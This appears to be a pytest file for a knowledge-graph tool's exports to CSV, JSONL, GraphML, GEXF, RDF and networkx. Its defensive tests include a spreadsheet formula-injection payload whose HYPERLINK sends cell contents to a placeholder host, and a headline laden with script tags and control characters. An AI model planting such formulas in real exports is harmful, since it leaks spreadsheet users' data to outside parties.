"""Exports that other tools open: rows, tables, networks, rdflib."""

from __future__ import annotations

import csv
import json
import random
from dataclasses import replace
from pathlib import Path

import networkx as nx
import pyoxigraph as ox
import pytest
import rdflib
from graph.examples import ARTICLE, DENIED, ENGLISH, ENGLISH_STATEMENTS, MEETING, STATEMENTS, TEXT, VISIT

from kg import export
from kg.errors import StoreError
from kg.export import files
from kg.export.cells import neutral_table
from kg.export.neo4j import write_folder
from kg.graph import Store
from kg.graph.confident import probability
from kg.graph.validate import validate
from kg.model import Evidence
from kg.vocab import KG


@pytest.fixture
def store() -> Store:
    store = Store.memory()
    store.add(ARTICLE, STATEMENTS)
    store.add(ENGLISH, ENGLISH_STATEMENTS)
    return store


def test_rows_come_by_article_in_the_order_of_the_text(store: Store) -> None:
    rows = list(export.statements(store))
    assert [row.relation for row in rows] == [
        "supports",
        "accuses",
        "clashesWith",
        "visits",
        "holdsOffice",
        "meets",
        "clashesWith",
        "attacks",
    ]
    visit = rows[3]
    assert visit.subject.label == "Mevlut Cavusoglu" and visit.object.iso == "AZ" and visit.object.wikidata == "Q227"
    assert visit.source and visit.source.label == "Anadolu Agency" and len(visit.attribution) == 2
    assert TEXT[visit.start : visit.end] == visit.sentence
    assert visit.article.headline == ARTICLE.headline and visit.article.publisher == "Kompas.com"
    assert visit.article.url == ARTICLE.url and visit.article.agency == "Anadolu Agency" and visit.language == "id"
    assert rows[5].place and rows[5].place.type == "Place" and rows[5].symmetric and not visit.symmetric


def test_jsonl_gives_the_statement_lines_back(store: Store, tmp_path: Path) -> None:
    export.write(store, tmp_path / "x.jsonl")
    lines = [json.loads(line) for line in (tmp_path / "x.jsonl").read_text(encoding="utf-8").splitlines()]
    for statement in (VISIT, DENIED):
        assert statement.to_json() in lines
    turned = replace(MEETING, subject=MEETING.object, object=MEETING.subject)  # symmetric: by IRI
    assert turned.to_json() in lines and len(lines) == 8


def test_csv(store: Store, tmp_path: Path) -> None:
    export.write(store, tmp_path / "x.csv")
    with (tmp_path / "x.csv").open(encoding="utf-8", newline="") as file:
        rows = list(csv.DictReader(file))
    assert len(rows) == 8 and rows[3]["object"] == "Azerbaijan" and rows[3]["date"] == "2020-10-06"
    assert rows[3]["sentence"] == VISIT.evidence[0].sentence
    empty = tmp_path / "empty.csv"
    export.write(Store.memory(), empty)
    assert empty.read_text().startswith("relation,subject,")


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t=", " =", "\uff1d", "\r"])
def test_no_cell_of_a_csv_is_a_formula(start: str, tmp_path: Path) -> None:
    store, text = Store.memory(), start + 'HYPERLINK("http://a.example/?"&A1,"open")'
    said = replace(VISIT, evidence=(Evidence(text, 0, len(text)),))
    store.add(replace(ARTICLE, headline=text, publisher=text), [said])
    export.write(store, tmp_path / "x.csv")
    with (tmp_path / "x.csv").open(encoding="utf-8", newline="") as file:
        (row,) = csv.DictReader(file)
    assert row["sentence"] == f"'{text}" and row["headline"].startswith("'") and row["start"] == "0"
    assert not [value for value in row.values() if value.strip()[:1] in ("=", "+", "-", "@", "\uff1d")]
    export.write(store, tmp_path / "x.jsonl")
    (line,) = (tmp_path / "x.jsonl").read_text(encoding="utf-8").splitlines()
    assert json.loads(line)["evidence"]["sentence"] == text


def test_a_table_without_formulas_stays_as_it_is() -> None:
    plain = b'a,b\r\n"x, y",-12.5\r\n,+3e4\r\n'
    assert neutral_table(plain) == plain
    assert neutral_table(b'a\r\n"=1+1"\r\n') == b"a\r\n'=1+1\r\n"


def test_networkx(store: Store) -> None:
    graph = export.to_networkx(store)
    assert graph.number_of_edges() == 8 and graph.is_multigraph() and graph.is_directed()
    turkey = next(node for node, data in graph.nodes(data=True) if data.get("iso") == "TR")
    assert graph.nodes[turkey]["type"] == "Country"
    data = next(d for _, _, d in graph.edges(data=True) if d["relation"] == "visits")
    assert data["factuality"] == "planned" and data["sentence"] and "place" not in data and data["symmetric"] is False


@pytest.mark.parametrize(("suffix", "read"), [(".graphml", nx.read_graphml), (".gexf", nx.read_gexf)])
def test_network_files_read_back_and_repeat(store: Store, suffix: str, read: object, tmp_path: Path) -> None:
    hostile = replace(ARTICLE, id="h", headline="<script>\x00\x1b]]> & \ud800 \u202e")
    store.add(hostile, [VISIT])
    one, other = tmp_path / f"1{suffix}", tmp_path / f"2{suffix}"
    export.write(store, one)
    export.write(store, other)
    assert one.read_bytes() == other.read_bytes()
    graph = read(one)  # type: ignore[operator]
    assert graph.number_of_edges() == 9
    headlines = {data["headline"] for *_, data in graph.edges(data=True)}
    assert any(headline.startswith("<script>\ufffd") for headline in headlines)


def test_confidence_comes_back_in_every_format(tmp_path: Path) -> None:
    store = Store.memory()
    store.add(ARTICLE, [replace(VISIT, confidence=0.9), replace(MEETING, confidence=1.0), DENIED])
    for suffix in (".jsonl", ".csv", ".graphml", ".ttl"):
        export.write(store, tmp_path / f"x{suffix}")
    told = {row.relation: row.confidence for row in export.statements(Store.load(tmp_path / "x.ttl"))}
    assert told == {"visits": 0.9, "meets": 1.0, "attacks": None}
    lines = map(json.loads, (tmp_path / "x.jsonl").read_text(encoding="utf-8").splitlines())
    assert {line["relation"]: line["confidence"] for line in lines} == told
    with (tmp_path / "x.csv").open(encoding="utf-8", newline="") as file:
        cells = {row["relation"]: row["confidence"] for row in csv.DictReader(file)}
    assert cells == {"visits": "0.9", "meets": "1.0", "attacks": ""}
    edges = nx.read_graphml(tmp_path / "x.graphml").edges(data=True)
    assert {data["relation"]: data.get("confidence") for *_, data in edges} == told


@pytest.mark.parametrize("value", ["x", "7", "-0.1", "nan", None])
def test_what_is_no_probability_is_none(value: str | None) -> None:
    assert probability(value) is None


def test_rdf_formats_are_delegated(store: Store, tmp_path: Path) -> None:
    export.write(store, tmp_path / "x.ttl")
    assert list(export.statements(Store.load(tmp_path / "x.ttl"))) == list(export.statements(store))


def test_an_unknown_extension_is_told_the_known_ones(store: Store, tmp_path: Path) -> None:
    with pytest.raises(StoreError, match="graphml"):
        export.write(store, tmp_path / "x.docx")
    assert list(tmp_path.iterdir()) == []


@pytest.mark.filterwarnings("ignore::DeprecationWarning:rdflib")
def test_rdflib_has_the_same_data_and_plain_literals(store: Store) -> None:
    dataset = export.to_rdflib(store)
    assert len(list(dataset.quads())) == len(store)
    assert (None, rdflib.RDFS.label, rdflib.Literal("Mevlut Cavusoglu")) in dataset
    rows = list(dataset.query("SELECT ?w { ?w kg:visits ?c }"))
    assert len(rows) == 1
    (count,) = dataset.query("SELECT (COUNT(*) AS ?n) { ?s ?p ?o }")
    assert int(count[0]) == len(store)


@pytest.mark.parametrize("seed", range(6))
def test_a_damaged_graph_still_exports(seed: int, tmp_path: Path) -> None:
    """Files of others, and edited ones, lack things and have others in their places."""
    chance = random.Random(seed)
    store = Store.memory()
    store.add(ARTICLE, STATEMENTS)
    quads = sorted((quad for quad in store if quad.predicate != KG.layoutVersion), key=str)
    things = [ox.Literal("x"), ox.Literal(7), ox.BlankNode("b"), *(quad.object for quad in quads)]
    for quad in chance.sample(quads, 60):
        store.inner.remove(quad)
        if chance.random() < 0.7:
            store.inner.add(ox.Quad(quad.subject, quad.predicate, chance.choice(things), quad.graph_name))
    for suffix in (".ttl", *files.OTHERS):
        export.write(store, tmp_path / f"x{suffix}")
    write_folder(store, tmp_path / "neo4j")
    list(export.statements(Store.load(tmp_path / "x.ttl")))
    validate(store)
    store.add(ARTICLE, STATEMENTS)
    store.remove(ARTICLE.id)
